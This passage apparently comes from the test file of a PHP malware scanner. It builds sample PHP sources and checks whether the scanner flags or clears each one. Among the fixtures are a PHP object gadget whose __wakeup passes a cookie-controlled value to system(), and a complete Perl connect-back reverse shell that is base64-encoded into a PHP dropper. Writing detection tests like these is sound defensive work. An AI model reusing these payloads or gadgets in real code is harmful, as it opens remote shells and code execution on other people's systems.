	T_CLEAN("x.php", "<?php\n$p = new XSLTProcessor();\n$p->registerPHPFunctions(array('ucfirst'));\n"
			 "$p->importStyleSheet($x);\necho $p->transformToXML($d);\n");
	T_CLEAN("x.php", "<?php\nclass Feed {\n  function render($x, $d) {\n    $p = new XSLTProcessor();\n"
			 "    $p->registerPHPFunctions();\n    $p->importStyleSheet($x);\n    return $p->transformToXML($d);\n  }\n}\n");
	/* the request's data unserialized beside a method that unserialize runs
	 * (__wakeup, __destruct) executing what the object holds: a gadget
	 * carried with its door */
	T_HAS("x.php", "<?php\nclass Cache {\n  public $hook = '';\n  function __wakeup() { system( @$this->hook ); }\n}\n"
		       "$c = unserialize(base64_decode($_COOKIE['c']));\n",
	      PHPSCAN_CODE_RUNNER, PHPSCAN_WEAK, 6);
	/* a session object saving itself; a template's object built by the page */
	T_CLEAN("x.php", "<?php\nclass Session {\n  public $data = array();\n  function __destruct() { $this->save($this->data); }\n"
			 "  function save($d) { file_put_contents('/tmp/s', serialize($d)); }\n}\n$s = unserialize($_COOKIE['s']);\n");
	T_CLEAN("x.php", "<?php\nclass Tpl {\n  public $code = '';\n  function __destruct() { eval($this->code); }\n}\n"
			 "$t = new Tpl();\n$t->code = 'echo 1;';\n");
	/* a payload cut into pieces of one line each, joined by `.`: judged whole */
	{
		static char src[16384], b64[4096];
		static const char perl[] = "#!/usr/bin/perl\n# a connect-back, cut into lines of 76 characters\n"
					   "use Socket;\n$host = $ARGV[0]; $port = $ARGV[1];\n"
					   "# ......................................................................\n"
					   "# ......................................................................\n"
					   "socket(S, PF_INET, SOCK_STREAM, getprotobyname('tcp')) || die;\n"
					   "connect(S, sockaddr_in($port, inet_aton($host))) || die;\n"
					   "open(STDIN, '>&S'); open(STDOUT, '>&S'); open(STDERR, '>&S');\n"
					   "exec('/bin/sh -i');\n";
		static const char text[] = "Thank you for installing. The configuration was written; you may now "
					   "delete the installer, log in with the account you created and add pages. ";
		size_t n, i, l;
		uint32_t x = 4242;

		b64enc((const uint8_t *)perl, strlen(perl), b64);
		n = (size_t)snprintf(src, sizeof(src), "<?php\n$bc = ");
		for (i = 0, l = strlen(b64); i < l; i += 76)
			n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'%.76s'", i ? " .\n  " : "", b64 + i);
		snprintf(src + n, sizeof(src) - n, ";\nfile_put_contents('/tmp/.bc', base64_decode($bc));\n");
		T_HAS("x.php", src, PHPSCAN_CONNECT_BACK, PHPSCAN_WEAK, 2);
		/* an encoded payload in 30 pieces, given to an own decoder, eval'd */
		n = (size_t)snprintf(src, sizeof(src), "<?php\nfunction d($s) { return base64_decode(strtr($s, 'ab', 'ba')); }\n$p = ");
		for (i = 0; i < 3000; i++) {
			x = x * 1103515245u + 12345u;
			if (i % 100 == 0)
				n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'", i ? "' .\n" : "");
			src[n++] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"[(x >> 16) & 63];
		}
		snprintf(src + n, sizeof(src) - n, "';\neval(d($p));\n");
		T_HAS("x.php", src, PHPSCAN_OBFUSCATED_EVAL, PHPSCAN_HIGH, 0);
		T_HAS("x.php", src, PHPSCAN_ENCODED_BLOB, PHPSCAN_WEAK, 0);
		/* text in pieces, a harmless text in base64 pieces: no payload */
		n = (size_t)snprintf(src, sizeof(src), "<?php\n$msg = ");
		for (i = 0; i < 8; i++)
			n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'%s'", i ? " .\n  " : "", text);
		snprintf(src + n, sizeof(src) - n, ";\necho $msg;\n");
		T_CLEAN("x.php", src);
		b64enc((const uint8_t *)text, strlen(text), b64);
		n = (size_t)snprintf(src, sizeof(src), "<?php\n$m = ");
		for (i = 0; i < 6; i++)
			n += (size_t)snprintf(src + n, sizeof(src) - n, "%s'%s'", i ? " .\n  " : "", b64);
		snprintf(src + n, sizeof(src) - n, ";\necho base64_decode($m);\n");
		T_CLEAN("x.php", src);
	}
}

int
main(void)
{
	T_RUN(test_droppers);
	T_RUN(test_tokenizer);
	T_RUN(test_taint);
	T_RUN(test_obfuscation);
	T_RUN(test_decoded);
	T_RUN(test_callbacks_more);
	T_RUN(test_gates_and_reads);
	T_RUN(test_objects_sockets_methods);
	T_RUN(test_shell_behaviours);
	T_RUN(test_tools);
	T_RUN(test_placement);
	T_RUN(test_config_files);
	T_RUN(test_writers);
	T_RUN(test_mailer);
	T_RUN(test_hidden_runners);
	T_RUN(test_benign);
	T_RUN(test_limits);
	T_RUN(test_wordpress);
	T_RUN(test_yara_and_verdict);
	T_DONE();
}
